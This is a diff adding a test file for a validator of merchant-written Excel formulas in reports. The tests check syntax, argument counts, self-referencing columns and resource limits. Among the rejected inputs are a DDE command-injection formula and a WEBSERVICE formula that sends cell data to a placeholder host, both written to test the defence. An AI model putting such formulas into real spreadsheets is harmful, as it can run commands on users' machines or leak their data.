@@ -1,0 +1,191 @@
+import { describe, expect, it } from "vitest";
+import { readFormulas } from "./columns.ts";
+import { computed, type Given, result } from "./compute-for-tests.ts";
+import { createRowComputer } from "./compute-rows.ts";
+import { formulaProblem, judgeFormulas } from "./judge.ts";
+
+const problems = (formulas: (string | null)[]) => judgeFormulas(formulas).map((judged) => judged?.problem);
+const notices = (formulas: (string | null)[]) => judgeFormulas(formulas).map((judged) => judged?.notice);
+
+describe("a formula that a merchant writes", () => {
+  it.each([
+    ["A1+B1", "Excel formulas must start with the '=' sign."],
+    [" =A1", "Excel formulas must start with the '=' sign."],
+    ["=", "Value is required"],
+    [`=1${"+1".repeat(450)}`, "The maximum length allowed is 900"],
+    ["=A1+", "Excel cannot read this formula. Look for a missing bracket, operator or argument."],
+    ["=SUM(A1", "Excel cannot read this formula. Look for a missing bracket, operator or argument."],
+    ["=1 2", "Excel cannot read this formula. Look for a missing bracket, operator or argument."],
+    ['="open', "A quotation mark or a bracket is open at the end. Close it."],
+    ["=SUM(A1;B1)", "Put commas between the arguments of a function, not semicolons."],
+    ["=A1#", "Excel cannot read “#” in this formula. Correct it."],
+    [
+      "=Total+1",
+      "There is no “Total”. Refer to columns by their letters, such as A1; put text between quotation marks.",
+    ],
+    ["=A0", "There is no “A0”. Refer to columns by their letters, such as A1; put text between quotation marks."],
+    [
+      "=A1048577",
+      "There is no “A1048577”. Refer to columns by their letters, such as A1; put text between quotation marks.",
+    ],
+    ["=Sheet2!A1", "“Sheet2!A1” is outside of this worksheet. Refer to columns of the report, such as A1."],
+    ["=[1]Sheet!A1", "“[1]Sheet!A1” is outside of this worksheet. Refer to columns of the report, such as A1."],
+    ["=cmd|'/C calc'!A0", "Excel cannot read “cmd|” in this formula. Correct it."],
+    ["=IF()", "IF takes 1 to 3 arguments, not 0."],
+    ["=LEN(A1,B1)", "LEN takes 1 argument, not 2."],
+    ["=SUM()", "SUM takes 1 argument at least, not 0."],
+    ["=VLOOKUP(A1)", "VLOOKUP takes 3 to 4 arguments, not 1."],
+    ['=WEBSERVICE("https://a.example/?"&A1)', "A report cannot hold the function WEBSERVICE. Choose another one."],
+    ["=_xlfn.LET(x,1,x)", "A report cannot hold the function LET. Choose another one."],
+    ["=LET(x,1,x)", "A report cannot hold the functions LET and LAMBDA. Use further columns for the parts."],
+    [`="${"x".repeat(256)}"`, "Excel takes at most 255 characters of text within a formula. Shorten it."],
+    [
+      `=${"IF(1,".repeat(65)}1${")".repeat(65)}`,
+      "This formula is nested too deeply. Use a second column for a part of it.",
+    ],
+  ])("%s is refused", (formula, said) => {
+    expect(formulaProblem(formula)).toBe(said);
+  });
+
+  it.each([
+    "=A1",
+    "= A1 + 1",
+    "=a1*$b1",
+    "=sum(A1:C1)",
+    "=SUM(A:A)",
+    "=VLOOKUP(A1,B:C,2,FALSE)",
+    "=SUM((A1,B1))",
+    "=FOO(1)",
+    "=_xlfn.CONCAT(A1)",
+    `=${"(".repeat(400)}A1${")".repeat(400)}`,
+    `=${"-".repeat(800)}A1`,
+    `=${"IF(1,".repeat(64)}1${")".repeat(64)}`,
+  ])("%s is taken", (formula) => {
+    expect(formulaProblem(formula)).toBeUndefined();
+  });
+
+  it("may not refer to itself, nor over other columns, nor by a row that is the same for all", () => {
+    expect(problems([null, "=A1+B1"])[1]).toBe(
+      "This formula stands in column B and refers to itself. Refer to other columns.",
+    );
+    expect(problems([null, "=SUM(A1:C1)", null])[1]).toContain("refers to itself.");
+    expect(problems([null, "=C1", "=D1*2", "=B1"])).toEqual([
+      undefined,
+      "This formula stands in column B and refers to itself over C and D. Refer to other columns.",
+      "This formula stands in column C and refers to itself over D and B. Refer to other columns.",
+      "This formula stands in column D and refers to itself over B and C. Refer to other columns.",
+    ]);
+    expect(problems([null, "=B$3+1"])[1]).toContain("refers to itself");
+    expect(problems([null, "=C$3", "=B2"])[2]).toContain("refers to itself over B");
+    expect(problems([null, "=SUM(B:B)"])[1]).toContain("refers to itself");
+    expect(problems([null, "=SUM(B$1:B1)"])[1]).toContain("refers to itself");
+    expect(problems(["=B1", "=C1", null])).toEqual([undefined, undefined, undefined]);
+  });
+
+  it("refers to columns that are there", () => {
+    expect(problems([null, null, "=F1"])[2]).toBe("There is no column F: the report shows the columns A to C.");
+    expect(problems(["=SUM(B1:AA1)"])[0]).toBe("There is no column AA: the report shows only column A.");
+    expect(problems([null, null, "=A1+B1"])).toEqual([undefined, undefined, undefined]);
+  });
+
+  it("says what only Excel computes", () => {
+    const only = (why: string) =>
+      `Only Excel computes this column, as ${why}. Elsewhere it shows '(computed in Excel)'.`;
+    expect(notices([null, "=VLOOKUP(A1,A1:A1,1)+TODAY()"])[1]).toBe(
+      only("we do not compute the function VLOOKUP and the function TODAY"),
+    );
+    expect(notices([null, "=SUM(A:A)"])[1]).toBe(only("we do not compute whole columns"));
+    expect(notices([null, "=SUM($A$1:A1)"])[1]).toBe(only("we do not compute ranges that grow from row to row"));
+    expect(notices([null, "=A101"])[1]).toBe(only("we do not compute rows after 100"));
+    expect(notices([null, "=A1:A3*2"])[1]).toBe(only("we do not compute several cells where one is asked for"));
+    expect(notices([null, "=A1+B2"])[1]).toContain("as it goes on down to the last row");
+    expect(notices(["=B1", "=RAND()"])[0]).toContain("needs a column that only Excel computes");
+    expect(notices([null, "=A100"])[1]).toBeUndefined();
+  });
+});
+
+describe("a column with a formula", () => {
+  const rows: Given[][] = [[1], [2], [3], [4]];
+
+  it("is for each row what the first row's formula is for the first", () => {
+    expect(computed([null, "=A1*2"], rows)).toEqual([["2"], ["4"], ["6"], ["8"]]);
+  });
+
+  it("looks at the rows below, and at nothing below the last one", () => {
+    expect(computed([null, "=A2-A1"], rows)).toEqual([["1"], ["1"], ["1"], ["-4"]]);
+    expect(computed([null, "=SUM(A1:A3)"], rows)).toEqual([["6"], ["9"], ["7"], ["4"]]);
+  });
+
+  it("keeps the row that has a dollar", () => {
+    expect(computed([null, "=A1/A$2"], rows)).toEqual([["0.5"], ["1"], ["1.5"], ["2"]]);
+    expect(computed([null, "=A$4"], rows.slice(0, 2))).toEqual([["0"], ["0"]]);
+  });
+
+  it("looks at other formulas, wherever they stand", () => {
+    expect(
+      computed(
+        ["=B1+1", null, "=A2*10", "=C$1"],
+        rows.map(([n]) => [null, n ?? null]),
+      ),
+    ).toEqual([
+      ["2", "30", "30"],
+      ["3", "40", "30"],
+      ["4", "50", "30"],
+      ["5", "0", "30"],
+    ]);
+  });
+
+  it("is computed by Excel alone where it looks at a column that is, or circles", () => {
+    expect(computed([null, "=RAND()", "=B1", "=A1"], [[1]])).toEqual([[undefined, undefined, "1"]]);
+    expect(computed(["=B1", "=A1"], [[]])).toEqual([[undefined, undefined]]);
+  });
+
+  it("takes a column that is not there as empty", () => {
+    expect(result("=F1+1")).toBe("1");
+  });
+
+  it("holds as many rows as it looks ahead, and no more", () => {
+    const held = (formula: string) => {
+      const computer = createRowComputer<number>(readFormulas([null, formula]), { locale: "en" }, (n) => ({
+        decimal: String(n),
+      }));
+      return [1, 2, 3, 4].map((n) => computer.add(n).length).concat(computer.end().length);
+    };
+    expect(held("=A1")).toEqual([1, 1, 1, 1, 0]);
+    expect(held("=A3")).toEqual([0, 0, 1, 1, 2]);
+    expect(held("=A$2")).toEqual([0, 2, 1, 1, 0]);
+    expect(held("=RAND()")).toEqual([1, 1, 1, 1, 0]);
+  });
+});
+
+describe("what no formula can make long", () => {
+  it("text that grows from column to column ends as an error", () => {
+    const formulas = ['=REPT("x",30000)', "=A1&A1", '=SUBSTITUTE(A1,"x",A1)', "=REPT(A1,1000000)"];
+    expect(computed(formulas, [[]])[0]?.slice(1)).toEqual(["#VALUE!", "#VALUE!", "#VALUE!"]);
+  });
+
+  it("many columns of many references, and of circles", () => {
+    const letters = Array.from({ length: 26 }, (_, at) => String.fromCharCode(65 + at));
+    const all = letters
+      .flatMap((a) => ["", "A", "B", "C"].map((b) => `${b}${a}1`))
+      .join("+")
+      .slice(0, 890)
+      .replace(/\+\w*$/, "");
+    expect(
+      judgeFormulas(Array.from({ length: 400 }, () => `=${all}`)).filter((judged) =>
+        judged?.problem?.includes("refers to itself"),
+      ).length,
+    ).toBeGreaterThan(100);
+    const chain = Array.from({ length: 400 }, (_, at) =>
+      at === 399 ? "=1" : `=${"+1".repeat(200)}+${letterOf(at + 1)}1`,
+    );
+    expect(computed(chain, [[]])[0]?.[0]).toBe(String(200 * 399 + 1));
+  });
+
+  it("patterns of stars", () => {
+    expect(result('=COUNTIF(A1:A1,"*a*a*a*a*a*a*a*b")', ["a".repeat(30_000)])).toBe("0");
+  });
+});
+
+const letterOf = (column: number): string =>
+  (column < 26 ? "" : letterOf(Math.floor(column / 26) - 1)) + String.fromCharCode(65 + (column % 26));
